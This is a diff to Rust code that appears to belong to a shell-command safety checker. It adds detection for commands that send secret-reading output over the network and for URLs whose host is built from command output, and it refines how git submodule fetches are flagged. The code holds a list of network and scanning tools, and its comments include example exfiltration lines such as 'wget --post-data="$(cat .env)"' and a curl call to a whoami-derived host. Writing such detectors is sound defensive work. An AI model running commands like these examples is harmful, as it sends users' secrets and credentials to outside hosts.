@@ -146,8 +146,14 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
         "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "httpie" | "aria2c" | "axel"
         | "lynx" | "links" | "w3m" | "ftp" | "tftp" | "sftp" | "scp" | "ssh" | "mosh"
         | "rclone" | "smbclient" | "ldapsearch" | "snmpwalk" | "mail" | "sendmail" | "mutt"
-        | "nmap" | "masscan" | "grpcurl" | "websocat" | "wscat" => {
-            if matches!(name.as_str(), "curl" | "wget") && dns_name_from_output(ctx, i) {
+        | "nmap" | "masscan" | "grpcurl" | "websocat" | "wscat" | "ssh-keyscan" => {
+            if let Some(src) = sends_secret_output(ctx, i) {
+                ctx.hit(
+                    RuleId::NetExfilSecret,
+                    i,
+                    format!("sends the output of `{src}`"),
+                );
+            } else if matches!(name.as_str(), "curl" | "wget") && host_from_output(ctx, i) {
                 ctx.hit(
                     RuleId::NetDnsExfil,
                     i,
@@ -164,12 +170,17 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             ctx.hit(RuleId::NetFetch, i, "rsync copies to or from another host");
         }
         "git" => {
-            if matches!(
-                git_subcommand(c),
-                Some(
-                    "clone" | "ls-remote" | "archive" | "submodule" | "request-pull" | "send-email"
+            let sub = git_subcommand(c);
+            let submodule_fetch = sub == Some("submodule")
+                && c.args()
+                    .iter()
+                    .any(|a| matches!(a.text.as_str(), "update" | "add" | "sync"));
+            if submodule_fetch
+                || matches!(
+                    sub,
+                    Some("clone" | "ls-remote" | "archive" | "request-pull" | "send-email")
                 )
-            ) {
+            {
                 ctx.hit(
                     RuleId::NetFetch,
                     i,
@@ -246,9 +257,31 @@ fn dns_name_from_output(ctx: &Ctx, i: usize) -> bool {
     operands(c)
         .iter()
         .any(|o| !o.feeds.is_empty() && !o.text.starts_with('@'))
-        || c.args()
-            .iter()
-            .any(|o| !o.feeds.is_empty() && o.text.contains("$(") && o.text.contains('.'))
+}
+
+/// A URL whose host part is built from command output
+/// (`curl https://$(whoami).example.invalid/`).
+fn host_from_output(ctx: &Ctx, i: usize) -> bool {
+    let c = &ctx.commands()[i];
+    operands(c).iter().any(|o| {
+        if o.feeds.is_empty() {
+            return false;
+        }
+        let after_scheme = o.text.split_once("://").map(|(_, r)| r).unwrap_or(&o.text);
+        let host = after_scheme.split('/').next().unwrap_or("");
+        host.contains("$(") || host.contains('`')
+    })
+}
+
+/// A substitution in the arguments whose command read a secret
+/// (`wget --post-data="$(cat .env)"`): the secret goes out. Returns it.
+fn sends_secret_output(ctx: &Ctx, i: usize) -> Option<String> {
+    let c = &ctx.commands()[i];
+    c.args()
+        .iter()
+        .flat_map(|w| ctx.word_sources(w))
+        .find(|&f| ctx.read_a_secret(f))
+        .map(|f| ctx.commands()[f].display())
 }
 
 /// Whether a shell reads from, or writes into, this command through pipes
